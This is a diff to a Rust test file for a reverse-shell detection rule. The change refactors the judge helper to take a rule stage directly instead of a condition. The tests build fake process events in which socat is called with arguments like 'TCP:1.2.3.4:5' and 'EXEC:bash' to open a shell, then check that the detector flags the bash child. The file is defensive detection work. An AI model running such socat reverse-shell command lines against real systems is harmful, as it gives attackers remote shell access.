@@ -33,25 +33,25 @@ fn with(mut document: Value, pointer: &str, value: Value) -> Value {
     document
 }
 
-fn judge(condition: &Condition, document: &Value, unsearched: Unsearched) -> bool {
-    condition.holds(&Facts::from_value(document).unwrap(), &Parameters::default().excluded, unsearched)
+fn judge(stage: &Stage, document: &Value, unsearched: Unsearched) -> bool {
+    stage.holds(&Facts::from_value(document).unwrap(), &Parameters::default().excluded, unsearched)
 }
 
 fn connects(pointer: &str, value: Value) -> bool {
     let rule = &REVERSE_SHELL_VIA_CHILD;
-    judge(&rule.connection.condition, &with(connection(), pointer, value), Unsearched::Absent)
+    judge(&rule.connection, &with(connection(), pointer, value), Unsearched::Absent)
 }
 
 fn execs(pointer: &str, value: Value) -> bool {
-    judge(&REVERSE_SHELL_VIA_CHILD.exec.condition, &with(exec(), pointer, value), Unsearched::Absent)
+    judge(&REVERSE_SHELL_VIA_CHILD.exec, &with(exec(), pointer, value), Unsearched::Absent)
 }
 
 #[test]
 fn the_plain_events_are_stages() {
     assert!(connects("/none", Value::Null));
     assert!(execs("/none", Value::Null));
-    assert!(!judge(&REVERSE_SHELL_VIA_CHILD.exec.condition, &connection(), Unsearched::Holds));
-    assert!(!judge(&REVERSE_SHELL_VIA_CHILD.connection.condition, &exec(), Unsearched::Holds));
+    assert!(!judge(&REVERSE_SHELL_VIA_CHILD.exec, &connection(), Unsearched::Holds));
+    assert!(!judge(&REVERSE_SHELL_VIA_CHILD.connection, &exec(), Unsearched::Holds));
 }
 
 #[test]
@@ -186,7 +186,7 @@ fn a_child_of_a_socat_that_executes_needs_no_flag() {
         let document = with(exec(), "/process/args", json!(["bash"]));
         let document = with(document, "/process/parent/name", json!(name));
         let document = with(document, "/process/parent/args", args);
-        judge(&REVERSE_SHELL_VIA_CHILD.exec.condition, &document, Unsearched::Absent)
+        judge(&REVERSE_SHELL_VIA_CHILD.exec, &document, Unsearched::Absent)
     };
     assert!(socat("socat", json!(["socat", "TCP:1.2.3.4:5", "EXEC:bash"])));
     assert!(socat("socat", json!(["socat", "tcp:exec.example:1", "-"])));
@@ -204,11 +204,11 @@ fn a_long_argument_is_never_found() {
     let long = format!("exec{}", "A".repeat(1020));
     let document = with(exec(), "/process/args", json!(["bash"]));
     let document = with(document, "/process/parent", json!({"name": "socat", "args": [long]}));
-    assert!(judge(&REVERSE_SHELL_VIA_CHILD.exec.condition, &document, Unsearched::Absent));
+    assert!(judge(&REVERSE_SHELL_VIA_CHILD.exec, &document, Unsearched::Absent));
     let document = with(document, "/process/parent/args", json!([format!("{long}A")]));
-    assert!(!judge(&REVERSE_SHELL_VIA_CHILD.exec.condition, &document, Unsearched::Absent));
+    assert!(!judge(&REVERSE_SHELL_VIA_CHILD.exec, &document, Unsearched::Absent));
     let document = with(document, "/process/parent/args", json!([format!("{long}A"), "exec"]));
-    assert!(judge(&REVERSE_SHELL_VIA_CHILD.exec.condition, &document, Unsearched::Absent));
+    assert!(judge(&REVERSE_SHELL_VIA_CHILD.exec, &document, Unsearched::Absent));
 }
 
 #[test]
@@ -222,7 +222,7 @@ fn either_name_of_a_process_is_its_name() {
 
 #[test]
 fn an_unsearched_rest_counts_as_matching_and_only_where_it_is_asked_for() {
-    let rule = &REVERSE_SHELL_VIA_CHILD.exec.condition;
+    let rule = &REVERSE_SHELL_VIA_CHILD.exec;
     let mut document = with(exec(), "/process/args", json!(["bash"]));
     document["sensor"] = json!({"args": {"unsearched": true}});
     assert!(judge(rule, &document, Unsearched::Holds));
